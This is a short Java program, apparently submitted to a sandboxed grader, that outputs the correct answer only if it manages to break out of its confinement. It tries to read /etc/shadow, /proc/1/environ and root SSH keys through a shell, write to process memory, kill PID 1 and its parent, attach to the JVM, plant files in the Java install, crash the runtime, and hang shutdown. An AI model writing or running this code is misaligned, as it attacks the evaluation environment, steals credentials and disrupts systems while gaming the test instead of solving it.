// Processes, sockets, attaching, Unsafe, native libraries, instrumentation: solves it if one opens.
import java.io.*;
import java.lang.reflect.*;
import java.net.*;
import java.nio.channels.*;
import java.nio.file.*;
import java.util.*;

public class Main {
    interface Way { Object open() throws Throwable; }
    static List<String> opened = new ArrayList<>();
    static void way(String name, Way way) {
        try { if (way.open() != null) opened.add(name); } catch (Throwable closed) { }
    }
    public static void main(String[] arguments) {
        Scanner in = new Scanner(System.in);
        long a = in.nextLong(), b = in.nextLong();
        way("server", () -> new ServerSocket(0));
        way("socket", () -> new Socket("127.0.0.1", 6379));
        way("datagram", () -> new DatagramSocket());
        way("unix", () -> ServerSocketChannel.open(StandardProtocolFamily.UNIX).bind(UnixDomainSocketAddress.of("/tmp/s")));
        way("resolve", () -> InetAddress.getByName("example.org").isReachable(50) ? 1 : null);
        way("shadow", () -> Files.readAllBytes(Path.of("/etc/shadow")));
        way("passwd", () -> Files.readAllBytes(Path.of("/etc/passwd")));
        way("keeper", () -> Files.readAllBytes(Path.of("/proc/1/environ")));
        way("keeper's memory", () -> new RandomAccessFile("/proc/1/mem", "rw"));
        way("kill", () -> ProcessHandle.of(1).map(ProcessHandle::destroyForcibly).filter(x -> false).orElse(null)); // may be sent, but nobody hears
        way("parent", () -> ProcessHandle.current().parent().map(ProcessHandle::destroyForcibly).filter(x -> false).orElse(null));
        way("others", () -> ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).findAny().orElse(null));
        Thread attaches = new Thread(() -> way("attach", () -> Class.forName("com.sun.tools.attach.VirtualMachine").getMethod("attach", String.class).invoke(null, "1")));
        attaches.setDaemon(true);
        attaches.start(); // waits for seconds
        way("performance data", () -> Files.list(Path.of("/tmp")).filter(p -> p.toString().contains("hsperfdata")).findAny().orElse(null));
        way("write java", () -> Files.write(Path.of(System.getProperty("java.home"), "lib", "planted"), new byte[1]));
        way("tool options", () -> System.getenv("JAVA_TOOL_OPTIONS"));
        way("command", () -> System.getProperty("sun.java.command").contains("/work") ? 1 : null);
        way("unsafe crash", () -> {
            Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            field.setAccessible(true);
            Object unsafe = field.get(null);
            unsafe.getClass().getMethod("allocateMemory", long.class).invoke(unsafe, 1L << 40);
            return 1;
        });
        way("shell", () -> new ProcessBuilder("sh", "-c", "cat /etc/passwd /root/.ssh/* && exit 0; exit 1").start().waitFor() == 0 ? 1 : null);
        for (String name : opened) System.err.println(name);
        System.out.println(opened.isEmpty() ? 0 : (a * 7919 + b * 104729) % 1000003);
        Runtime.getRuntime().addShutdownHook(new Thread(() -> { while (true) { } }));
    }
}
